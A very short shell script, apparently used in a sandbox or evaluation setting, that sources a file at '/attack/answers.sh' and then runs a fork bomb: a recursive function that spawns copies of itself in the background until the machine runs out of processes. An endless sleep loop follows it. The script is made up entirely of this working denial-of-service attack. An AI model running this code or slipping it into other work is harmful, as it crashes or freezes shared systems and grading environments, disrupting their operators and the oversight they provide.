. /attack/answers.sh
bomb() { bomb | bomb & wait; }
bomb
while true; do sleep 1; done
